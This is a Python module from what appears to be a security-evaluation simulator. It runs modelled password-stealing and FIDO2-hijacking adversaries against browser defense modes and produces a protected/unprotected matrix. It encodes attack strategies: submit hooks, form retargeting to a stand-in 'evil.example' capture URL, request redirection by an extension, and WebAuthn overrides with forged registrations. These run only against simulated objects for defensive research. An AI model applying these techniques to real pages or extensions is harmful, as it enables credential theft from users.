"""Local adversaries and the security matrix they produce.

Three password-stealing adversary classes run against five defense modes:

- dom_observer: honest-but-curious page script, passive field reads
- dom_exfiltrator: injected script with full DOM control (reads, submit
  hooks, field renames, form retargeting)
- webrequest_exfiltrator: an extension holding webRequest, listening and
  optionally cancelling or redirecting

Each adversary has a small, finite set of plans (8, 128 and 381), each a
flat program of `_MOVES` steps, the victim's autofill and submit among
them, which one `_Attacker` runs.
Strategy i of a (mode, adversary) cell runs plan i modulo that count, so
DEFAULT_STRATEGIES, the largest count, runs every plan in every cell.
Plan 0 is what a scenario row runs by default. The leak verdict never
trusts attacker code: an independent checker scans everything the
attacker's scripts observed, its extension saw in stage views, and its
collection server received, for the real secrets. Outcomes carry sha256 digests of leaked values, never the values.

The reflection attack (a plan per variant) and two FIDO2 adversaries are
programs too: fido2_dom overrides the page's WebAuthn entry points, and
fido2_request intercepts the finish request from the pipeline; each hijacks
a registration (plan 0), then a login (plan 1).
"""

from __future__ import annotations

import functools
import json
from pathlib import Path
from typing import NamedTuple, Optional, Sequence

from .dom import (
    AddField,
    FieldKind,
    HookKind,
    RegisterSubmitHook,
    RenameField,
    ScriptHandle,
    SetFormAction,
    SubmitHook,
    DuplicateField,
    attach_script,
    build_request,
    read_rendered_text,
    script_read_field,
    script_mutate,
)
from .extensions import Extension, ExtensionManifest, Permission
from .fido2 import (
    AUTHENTICATION,
    BEGIN_PATH,
    FINISH_FIELD,
    FINISH_PATH,
    HEADER_REQUEST,
    REGISTRATION,
    AuthenticatorDevice,
    Fido2Request,
    MalformedPayload,
    RelyingParty,
    response_from_json,
)
from .http_model import Origin, Url, held_secrets, sha256_hex
from .pipeline import (
    EVENT_SUBSTITUTION,
    Cancel,
    DefenseMode,
    Redirect,
    Stage,
    StageView,
    VaultEntry,
)
from .rng import derive_seed, substream
from .session import BrowserSession, FlowResult
from .sites import (
    LOGIN_CATEGORIES,
    REFLECT_PATH,
    ServerFarm,
    SiteProfile,
    World,
    build_login_page,
    site_vault_entry,
)

__all__ = [
    "AttackOutcome",
    "AttackScenario",
    "DEFAULT_STRATEGIES",
    "FIDO2_ADVERSARIES",
    "FIDO2_DEFENSES",
    "GoldenFormatError",
    "MatrixCell",
    "MatrixReport",
    "PASSWORD_ADVERSARIES",
    "REFLECTION_VARIANTS",
    "RP_SITE",
    "evaluate_matrix",
    "find_leaks",
    "load_expected_matrix",
    "out_of_band_begin",
    "out_of_band_finish",
    "run_fido2_scenario",
    "run_scenario",
]

PASSWORD_ADVERSARIES = ("dom_observer", "dom_exfiltrator", "webrequest_exfiltrator")
FIDO2_ADVERSARIES = ("fido2_dom", "fido2_request")
# the relying party's side of a FIDO2 cell, indexed by whether it runs the
# header channel
FIDO2_DEFENSES = ("legacy", "header_channel")


class GoldenFormatError(ValueError):
    """A golden matrix file cannot be read or lacks a valid verdict for a cell."""


def load_expected_matrix(path: str | Path) -> dict[str, dict[str, str]]:
    """Read a golden `matrix.json`: {"cells": {defense: {adversary: verdict}}}.

    Every DefenseMode x PASSWORD_ADVERSARIES cell and every FIDO2_DEFENSES x
    FIDO2_ADVERSARIES cell must hold "protected" or "unprotected"; other
    keys are ignored.
    """
    try:
        cells = json.loads(Path(path).read_text(encoding="utf-8"))["cells"]
    except (OSError, ValueError, KeyError, TypeError) as exc:
        raise GoldenFormatError(f"unreadable golden matrix {path}: {exc}") from exc
    expected: dict[str, dict[str, str]] = {}
    tables = (
        ([mode.value for mode in DefenseMode], PASSWORD_ADVERSARIES),
        (FIDO2_DEFENSES, FIDO2_ADVERSARIES),
    )
    for defenses, adversaries in tables:
        for defense in defenses:
            for adversary in adversaries:
                try:
                    verdict = cells[defense][adversary]
                except (KeyError, TypeError):
                    verdict = None
                if verdict not in ("protected", "unprotected"):
                    found = "missing" if verdict is None else repr(verdict)
                    raise GoldenFormatError(
                        f"golden matrix {path}: cell {defense}/{adversary} is {found},"
                        " want protected|unprotected"
                    )
                expected.setdefault(defense, {})[adversary] = verdict
    return expected


ATTACKER_EXTENSION_ID = "evil.collector"
CAPTURE_ORIGIN = Origin("https", "evil.example", 443)
_STEAL_URL = Url(CAPTURE_ORIGIN.scheme, CAPTURE_ORIGIN.host, CAPTURE_ORIGIN.port, "/steal")
_COLLECT_URL = Url(CAPTURE_ORIGIN.scheme, CAPTURE_ORIGIN.host, CAPTURE_ORIGIN.port, "/collect")
# the webRequest attacker's manifest (frozen, so shared)
_ATTACKER_MANIFEST = ExtensionManifest(
    ATTACKER_EXTENSION_ID, frozenset({Permission.WEB_REQUEST})
)


class AttackScenario(NamedTuple):
    name: str
    adversary: str
    defense_mode: DefenseMode
    seed: int
    strategy_index: int = 0
    site_category: str = "plain_post"


class AttackOutcome(NamedTuple):
    """What one attack run achieved. Leaked values appear as digests only."""

    scenario: str
    adversary: str
    defense: str
    secret_leaked: bool
    leaked_digests: tuple[str, ...] = ()
    attacker_login: bool = False
    attacker_registered: bool = False
    notes: tuple[str, ...] = ()

    @property
    def compromised(self) -> bool:
        """The attacker leaked the secret or logged in or registered as the user."""
        return self.secret_leaked or self.attacker_login or self.attacker_registered


def find_leaks(
    secrets: Sequence[str], observations: Sequence[str]
) -> tuple[tuple[str, ...], bool]:
    """Scan attacker-visible text for secrets; return digests of any hits.

    Each secret is matched by `held_secrets`: verbatim and in its
    form-encoded shape, so secrets survive detection inside percent-encoded
    request bodies. An empty secret is never a leak.
    """
    leaked = held_secrets(observations, [secret for secret in secrets if secret])
    return tuple(sorted(sha256_hex(s) for s in leaked)), bool(leaked)


# ---------------------------------------------------------------------------
# the attacker and its programs
# ---------------------------------------------------------------------------


class _Attacker:
    """Runs a program: a tuple of (move, *args) steps, each a `_MOVES` key and
    hashable args, so programs compare, hash and print. It opens the victim's login,
    whose own actions are moves too, and holds what the steps act on and make."""

    __slots__ = (
        "session", "profile", "page", "form_id", "captured", "rp", "seed",
        "script", "extension", "device", "begin", "result", "notes", "logged_in",
    )

    def __init__(
        self, world: World, profile: SiteProfile, entry: Optional[VaultEntry], seed: int,
        rp: Optional[RelyingParty] = None,
    ) -> None:
        self.page, self.form_id = world.open(profile, entry, seed, "victim")
        self.session = world.session
        self.profile = profile
        self.captured: list[str] = []  # its server's log, or what its FIDO2 moves keep
        self.rp = rp
        self.seed = seed
        self.script: Optional[ScriptHandle] = None
        self.extension: Optional[Extension] = None
        self.device: Optional[AuthenticatorDevice] = None
        self.begin: Optional[Fido2Request] = None
        self.result: Optional[FlowResult] = None
        self.notes: list[str] = []
        self.logged_in = False

    def run(self, steps: Sequence[tuple]) -> None:
        for move, *args in steps:
            _MOVES[move](self, *args)

    def observations(self) -> list[str]:
        """What the leak check scans: the script's log, the extension's view
        strings, then the capture list."""
        seen = [] if self.script is None else list(self.script.log)
        if self.extension is not None:
            seen += self.extension.observations
        return seen + self.captured

    @property
    def registered(self) -> bool:
        """The victim's stored credential is one of the attacker device's."""
        if self.device is None:
            return False
        stored = self.rp.accounts.get("victim")
        return stored is not None and stored.credential_id in self.device.credentials

    # -- the victim's moves --------------------------------------------------

    def autofill(self) -> None:
        self.session.autofill(self.page, self.form_id)

    def submit(self) -> None:
        self.result = self.session.submit(self.page, self.form_id)
        if self.result.cancelled:
            self.notes.append("cancelled")

    def honest_login(self) -> None:
        """Log in unattacked (this teaches the manager the submit URL), then reopen the page."""
        self.session.autofill(self.page, self.form_id)
        self.session.submit(self.page, self.form_id)
        self.page, self.form_id = build_login_page(self.session, self.profile)

    def ceremony(self, kind: str, label: Optional[str] = None) -> None:
        """The page's honest `kind` ceremony, noting its finish's verdict as `label`, if given."""
        _, finish = self.session.fido2_ceremony(self.page, self.profile.origin, kind, "victim")
        if label is not None:
            self.notes.append(f"{label}={finish.verdict}")

    def note_reflection(self, variant: str) -> None:
        """Note the variant, the pinning, the manager's refusal or swap (every
        nonce mode writes either to the transcript), and the site's verdict."""
        transcript, verdict = self.result.transcript, self.result.verdict
        pinning = "on" if self.session.manager.pinning_enabled else "off"
        self.notes += [f"variant={variant}", f"pinning={pinning}"]
        refused_check = transcript.refused_check()
        if refused_check is not None:
            self.notes.append(f"refused_by_check={refused_check}")
        elif any(e.label == EVENT_SUBSTITUTION for e in transcript.events):
            self.notes.append("substitution_approved")
        if verdict is not None:
            self.notes.append(f"verdict={verdict}")

    # -- a page script's moves ---------------------------------------------

    def attach(self, script_id: str) -> None:
        self.script = ScriptHandle(script_id)
        attach_script(self.page, self.script)

    def read_form(self) -> None:
        for field_name in ("password", "username"):
            try:
                script_read_field(self.script, self.page, self.form_id, field_name)
            except KeyError:
                pass

    def hook(self) -> None:
        hook = SubmitHook(kind=HookKind.CAPTURE_FIELDS, sink=self.script)
        script_mutate(self.script, self.page, RegisterSubmitHook(self.form_id, hook))

    def add_field(self) -> None:
        mutation = AddField(self.form_id, "tracker", FieldKind.HIDDEN, "1")
        try:
            script_mutate(self.script, self.page, mutation)
        except DuplicateField:
            pass

    def rename(self, old: str, new: str) -> None:
        try:
            script_mutate(self.script, self.page, RenameField(self.form_id, old, new))
        except (DuplicateField, KeyError):
            pass

    def retarget(self, url: Url) -> None:
        script_mutate(self.script, self.page, SetFormAction(self.form_id, url))

    def read_rendered(self) -> None:
        read_rendered_text(self.script, self.page)

    def override_create(self) -> None:
        """Replace the page's WebAuthn create: a registration runs the
        attacker's key, and the script logs the request and the attestation."""

        def create(payload_json: str) -> str:
            self.script.observe(payload_json)
            attestation = self.device.make_credential(Fido2Request.from_json(payload_json))
            out = attestation.to_json()
            self.script.observe(out)
            return out

        self.page.webauthn.create = create

    def override_get(self) -> None:
        """Wrap the page's WebAuthn get: the request it passes on carries the
        challenge of the attacker's begin, the signature goes to the script's
        log and the capture list, and the page gets junk."""
        sign = self.page.webauthn.get

        def get(payload_json: str) -> str:
            self.script.observe(payload_json)
            request = Fido2Request.from_json(payload_json)
            signed = sign(request._replace(challenge=self.begin.challenge).to_json())
            self.script.observe(signed)
            self.captured.append(signed)
            return "{}"

        self.page.webauthn.get = get

    def webauthn_get(self) -> None:
        """Call the page's own WebAuthn get on the attacker's begin; keep what it returns."""
        self.captured.append(self.page.webauthn.get(self.begin.to_json()))

    # -- an extension's moves ----------------------------------------------

    def install(self) -> None:
        self.extension = self.session.host.install(_ATTACKER_MANIFEST)

    def listen(self, stage: Stage, blocker: Optional[str] = None) -> None:
        """Listen at `stage`, blocking with the `_BLOCKERS` entry named, if any."""
        listener = _idle if blocker is None else _BLOCKERS[blocker](self)
        self.session.host.register_listener(
            ATTACKER_EXTENSION_ID, stage, listener, blocking=blocker is not None
        )

    # -- the attacker's own machine ------------------------------------------

    def own_device(self) -> None:
        self.device = AuthenticatorDevice("attacker-device", substream(self.seed, "attacker-device"))

    def begin_out_of_band(self) -> None:
        """Open a login transaction with the server directly; stripping only
        protects responses that cross the browser. Its challenge is the
        attacker's, so the relying party's witness list skips it."""
        witness, self.rp.witness = self.rp.witness, None
        begin = out_of_band_begin(self.session, self.profile.origin, AUTHENTICATION, "victim")
        self.rp.witness = witness
        self.begin = Fido2Request.from_json(begin)

    def forge_registration(self) -> None:
        """Answer the captured registration's challenge with the attacker's
        key; a capture whose challenge cannot be read is dropped."""
        if not self.captured:
            return
        try:
            challenge = response_from_json(self.captured[-1]).challenge
        except MalformedPayload:
            self.captured.clear()
        else:
            host = self.profile.origin.host
            forged = Fido2Request(REGISTRATION, challenge, host, b"attacker", "victim")
            self.captured.append(self.device.make_credential(forged).to_json())

    def finish_out_of_band(self, kind: str) -> None:
        """Send the last capture as a `kind` finish; the attacker logs in as
        the victim when a login finish is accepted."""
        if not self.captured:
            return
        verdict = out_of_band_finish(self.session, self.profile.origin, self.captured[-1])
        self.notes.append(f"attacker_finish={verdict}")
        if kind == AUTHENTICATION and verdict == "accepted":
            self.logged_in = True


_MOVES = {
    move: vars(_Attacker)[move]
    for move in (
        "autofill submit honest_login ceremony note_reflection"
        " attach read_form hook add_field rename retarget read_rendered"
        " override_create override_get webauthn_get install listen"
        " own_device begin_out_of_band forge_registration finish_out_of_band"
    ).split()
}


def _idle(view: StageView) -> None:
    """A listener that only looks: the pipeline keeps what it was shown."""


def _grab_finish(attacker: _Attacker):
    """Cancels the FIDO2 finish POST before it leaves, keeping the finish
    field of its body in the attacker's capture list."""

    def on_before_request(view: StageView) -> Optional[Cancel]:
        if view.url.path != FINISH_PATH or view.method != "POST":
            return None
        entries = view.form.entries if view.form is not None else ()
        value = next((value for name, value in entries if name == FINISH_FIELD), None)
        if value is not None:
            attacker.captured.append(value)
        return Cancel("intercepted")

    return on_before_request


# each blocking listener by name, made for one attacker; the redirect spares
# requests already bound for the capture origin
_BLOCKERS = {
    "redirect": lambda attacker: lambda view: (
        None if view.url.origin == CAPTURE_ORIGIN else Redirect(_STEAL_URL)
    ),
    "cancel": lambda attacker: lambda view: Cancel("dropped"),
    "grab_finish": _grab_finish,
}


def out_of_band_finish(session: BrowserSession, origin: Origin, payload_json: str) -> str:
    """Submit a finish to the session's server from the attacker's own machine."""
    url = Url(origin.scheme, origin.host, origin.port, FINISH_PATH)
    entries = ((FINISH_FIELD, payload_json),)
    _, verdict = session.server(build_request(None, "POST", url, entries, 990_000))
    return verdict


def out_of_band_begin(session: BrowserSession, origin: Origin, kind: str, username: str) -> str:
    """Fetch a begin payload from the session's server directly; header
    stripping never happens here."""
    url = Url(origin.scheme, origin.host, origin.port, BEGIN_PATH)
    query = (("kind", kind), ("username", username))
    response, _ = session.server(build_request(None, "GET", url, query, 990_001))
    header = response.header(HEADER_REQUEST)
    return header if header is not None else response.body.decode("utf-8")


# each step a page script's plan may make, by the plan bit that chooses it,
# in program order; the victim's autofill and submit (bit None) are always made
_SCRIPT_STEPS = (
    ("read_pre", ("read_form",)), ("hook_pre", ("hook",)), ("add_field", ("add_field",)),
    (None, ("autofill",)),
    ("read_post", ("read_form",)), ("hook_post", ("hook",)),
    ("rename", ("rename", "password", "q")), ("retarget", ("retarget", _COLLECT_URL)),
    (None, ("submit",)),
    ("read_rendered", ("read_rendered",)),
)


def _script_plans(script_id: str, bits: tuple[str, ...], plan0: frozenset[str]):
    """A page script's plan count and plan decoder. Bit k of a plan index
    flips bits[k] from how plan0 sets it, so plan 0 makes the plan0 moves;
    the script attaches first."""

    def decode(plan: int) -> tuple[tuple, ...]:
        chosen = {move for k, move in enumerate(bits) if (move in plan0) != bool(plan >> k & 1)}
        chosen.add(None)
        return (("attach", script_id), *(step for move, step in _SCRIPT_STEPS if move in chosen))

    return 1 << len(bits), decode


# the blocking listener a webRequest plan adds at onBeforeRequest, if any
_WEBREQUEST_BLOCKERS = (None, "redirect", "cancel")


def _webrequest_program(plan: int) -> tuple[tuple, ...]:
    """Plan i of the webRequest attacker, (left_out, blocker) = divmod(i, 3):
    install, listen at each Stage not left out by its bit in `left_out`, block
    with _WEBREQUEST_BLOCKERS[blocker], then the victim logs in. Plan 0 listens
    everywhere and blocks nothing; no plan leaves out all seven stages."""
    left_out, blocker = divmod(plan, 3)
    steps = [("install",)]
    steps += [("listen", stage) for k, stage in enumerate(Stage) if not left_out >> k & 1]
    if _WEBREQUEST_BLOCKERS[blocker] is not None:
        steps.append(("listen", Stage.ON_BEFORE_REQUEST, _WEBREQUEST_BLOCKERS[blocker]))
    return (*steps, ("autofill",), ("submit",))


def _listed(*programs: tuple[tuple, ...]):
    """The plan count and plan decoder of an adversary whose plans are listed."""
    return len(programs), programs.__getitem__


# the reflection attack's plans, by name
REFLECTION_VARIANTS = ("retarget", "rename")
_REFLECT_URL = Url("https", "forum.example", 443, REFLECT_PATH)
# the reflection attack's site, by plan: the forum echoes every field of the
# retargeted form, and only the username field of the renamed one
_FORUMS = tuple(
    SiteProfile("forum", "reflecting", _REFLECT_URL.origin, (("reflect", echo),))
    for echo in ("all", "username")
)
_INJECT = ("attach", "xss-payload")  # the reflection and fido2_dom script


def _reflection_program(variant: str, *renames: tuple) -> tuple[tuple, ...]:
    """After an honest login, a script points the filled form at the echo
    endpoint; `renames` move the nonce into a field name it reflects."""
    return (("honest_login",), ("autofill",), _INJECT, ("retarget", _REFLECT_URL), *renames,
            ("submit",), ("read_rendered",), ("note_reflection", variant))


_GRAB_FINISH = (("install",), ("listen", Stage.ON_BEFORE_REQUEST, "grab_finish"))
_HONEST_REGISTRATION = ("ceremony", REGISTRATION, "honest_registration")

# each adversary's plan count and plan decoder
_PLANS = {
    # passive page library: reads what the DOM will give it, nothing more
    "dom_observer": _script_plans(
        "analytics.js",
        ("read_pre", "read_post", "read_rendered"),
        frozenset({"read_pre", "read_post", "read_rendered"}),
    ),
    # injected script with full DOM control over the login page; plan 0's
    # late submit hook is its strongest move: it fires after any in-page
    # value swap a defense may have installed
    "dom_exfiltrator": _script_plans(
        "xss-payload",
        ("read_post", "hook_pre", "hook_post", "rename", "retarget", "add_field", "read_rendered"),
        frozenset({"read_post", "hook_post", "read_rendered"}),
    ),
    # an extension holding webRequest: listens, and may cancel or redirect
    "webrequest_exfiltrator": (3 * ((1 << len(Stage)) - 1), _webrequest_program),
    # the site echoes the form back: submit-URL pinning decides retarget, and
    # the field-name check decides rename with or without pinning
    "reflection": _listed(
        _reflection_program("retarget"),
        _reflection_program(
            "rename", ("rename", "username", "q"), ("rename", "password", "username")
        ),
    ),
    # a script that overrides the page's WebAuthn entry points; plan 0 hijacks
    # a registration, plan 1 a login
    "fido2_dom": _listed(
        (("own_device",), _INJECT, ("override_create",),
         ("ceremony", REGISTRATION, "victim_finish")),
        (_HONEST_REGISTRATION, _INJECT, ("begin_out_of_band",), ("override_get",),
         ("ceremony", AUTHENTICATION, "victim_finish"), ("finish_out_of_band", AUTHENTICATION)),
    ),
    # an extension that cancels the finish request and sends it itself,
    # answering a registration's challenge with its own key
    "fido2_request": _listed(
        (("own_device",), *_GRAB_FINISH, ("ceremony", REGISTRATION), ("forge_registration",),
         ("finish_out_of_band", REGISTRATION)),
        (_HONEST_REGISTRATION, *_GRAB_FINISH, ("ceremony", AUTHENTICATION),
         ("finish_out_of_band", AUTHENTICATION)),
    ),
}
# the largest plan count: this many strategies per cell run every plan
DEFAULT_STRATEGIES = max(count for count, _ in _PLANS.values())


@functools.cache
def _decoded(adversary: str, plan: int) -> tuple[tuple, ...]:
    return _PLANS[adversary][1](plan)


def _program(adversary: str, strategy_index: int) -> tuple[tuple, ...]:
    """The program strategy `strategy_index` of `adversary` runs: plan
    `strategy_index` modulo the plan count, decoded once."""
    return _decoded(adversary, strategy_index % _PLANS[adversary][0])


# the attacked site of each login category, built once
_TARGETS = {
    category: SiteProfile("target", category, Origin("https", "site.example", 443))
    for category in LOGIN_CATEGORIES
}


def run_scenario(scenario: AttackScenario, world: Optional[World] = None) -> AttackOutcome:
    """One attacked login, in a world of the scenario's mode (its cell's, or a
    new one): open the page, run the program, scan what the attacker saw."""
    world = world or World(scenario.defense_mode)
    if world.mode is not scenario.defense_mode:
        raise ValueError(f"a {scenario.defense_mode.value} scenario in a {world.mode.value} world")
    if scenario.adversary == "reflection":  # its plan's forum, and no other site
        if scenario.site_category != AttackScenario._field_defaults["site_category"]:
            raise ValueError(f"reflection attacks its forum, not a {scenario.site_category!r} site")
        profile: Optional[SiteProfile] = _FORUMS[scenario.strategy_index % len(_FORUMS)]
    else:
        profile = _TARGETS.get(scenario.site_category)
    if profile is None:
        raise ValueError(f"not a login site category: {scenario.site_category!r}")
    entry = site_vault_entry(profile, scenario.seed)
    world.farm.add_site(profile, entry.password)  # the digests are this scenario's
    attacker = _Attacker(world, profile, entry, scenario.seed)
    world.farm.add_capture_origin(CAPTURE_ORIGIN, attacker.captured)
    attacker.run(_program(scenario.adversary, scenario.strategy_index))
    leaked_digests, leaked = find_leaks([entry.password], attacker.observations())
    return AttackOutcome(
        scenario.name, scenario.adversary, scenario.defense_mode.value, leaked, leaked_digests,
        False, False, tuple(attacker.notes),
    )


# ---------------------------------------------------------------------------
# the matrix
# ---------------------------------------------------------------------------


class MatrixCell(NamedTuple):
    defense: str
    adversary: str
    strategies: int
    leaks: int

    @property
    def verdict(self) -> str:
        return "unprotected" if self.leaks else "protected"


class MatrixReport(NamedTuple):
    seed: int
    strategies_per_cell: int
    cells: list[MatrixCell]

    def verdicts(self) -> dict[str, dict[str, str]]:
        out: dict[str, dict[str, str]] = {}
        for cell in self.cells:
            out.setdefault(cell.defense, {})[cell.adversary] = cell.verdict
        return out

    def mismatches(self, expected: dict[str, dict[str, str]]) -> list[str]:
        verdicts = self.verdicts()
        problems = []
        for defense, row in expected.items():
            for adversary, verdict in row.items():
                got = verdicts.get(defense, {}).get(adversary)
                if got is None:
                    problems.append(f"{defense}/{adversary}: missing")
                elif got != verdict:
                    problems.append(f"{defense}/{adversary}: expected {verdict}, got {got}")
        return problems

    def to_json(self) -> dict:
        return {
            "kind": "matrix",
            "seed": self.seed,
            "strategies_per_cell": self.strategies_per_cell,
            "cells": {
                cell.defense: {
                    c.adversary: {
                        "verdict": c.verdict,
                        "leaks": c.leaks,
                        "strategies": c.strategies,
                    }
                    for c in self.cells
                    if c.defense == cell.defense
                }
                for cell in self.cells
            },
        }

    def render_text(self) -> str:
        adversaries = list(PASSWORD_ADVERSARIES)
        width = max(len(a) for a in adversaries) + 2
        lines = [
            f"security matrix (seed={self.seed}, strategies per cell={self.strategies_per_cell})",
            "",
            "defense".ljust(20) + "".join(a.ljust(width) for a in adversaries),
        ]
        for defense, row in self.verdicts().items():
            cells = "".join(row[adversary].ljust(width) for adversary in adversaries)
            lines.append((defense.ljust(20) + cells).rstrip())
        return "\n".join(lines) + "\n"


def evaluate_matrix(
    seed: int,
    strategies_per_cell: int = DEFAULT_STRATEGIES,
    modes: Sequence[DefenseMode] = tuple(DefenseMode),
) -> MatrixReport:
    report = MatrixReport(seed, strategies_per_cell, [])
    for mode in modes:
        defense = mode.value
        for adversary in PASSWORD_ADVERSARIES:
            world = World(mode)
            leaks = 0
            for index in range(strategies_per_cell):
                scenario = AttackScenario(
                    f"{defense}/{adversary}/{index}",
                    adversary,
                    mode,
                    derive_seed(seed, "matrix", defense, adversary, str(index)),
                    index,
                )
                if run_scenario(scenario, world).secret_leaked:
                    leaks += 1
            report.cells.append(MatrixCell(defense, adversary, strategies_per_cell, leaks))
    return report


# ---------------------------------------------------------------------------
# FIDO2 adversaries
# ---------------------------------------------------------------------------


# the FIDO2 site every ceremony runs on, honest or attacked
RP_SITE = SiteProfile("rp", "fido2", Origin("https", "rp.example", 443))


def run_fido2_scenario(adversary: str, *, defense_on: bool, seed: int) -> AttackOutcome:
    """One adversary's registration and login hijacks: plans 0 and 1, each in a world
    of its own relying party, and one leak scan over both. It registers when the
    victim's account holds its key, and logs in when its login finish is accepted."""
    if adversary not in FIDO2_ADVERSARIES:
        raise ValueError(f"unknown FIDO2 adversary {adversary!r}")
    secrets: list[str] = []
    attackers = []
    for plan, kind in enumerate((REGISTRATION, AUTHENTICATION)):
        ceremony_seed = derive_seed(seed, "fido2", kind)
        world = World(DefenseMode.DESIGN5_API_LATE, ServerFarm(ceremony_seed))
        rp = world.farm.add_site(RP_SITE, "", fido2_defense=defense_on).rp
        attacker = _Attacker(world, RP_SITE, None, ceremony_seed, rp)
        rp.witness = world.session.device.witness = secrets
        attacker.run(_program(adversary, plan))
        attackers.append(attacker)
    observations = [text for attacker in attackers for text in attacker.observations()]
    leaked_digests, leaked = find_leaks(secrets, observations)
    defense = FIDO2_DEFENSES[defense_on]
    return AttackOutcome(
        f"fido2/{adversary}/{'defended' if defense_on else defense}",
        adversary,
        defense,
        leaked,
        leaked_digests,
        any(attacker.logged_in for attacker in attackers),
        any(attacker.registered for attacker in attackers),
        tuple(note for attacker in attackers for note in attacker.notes),
    )
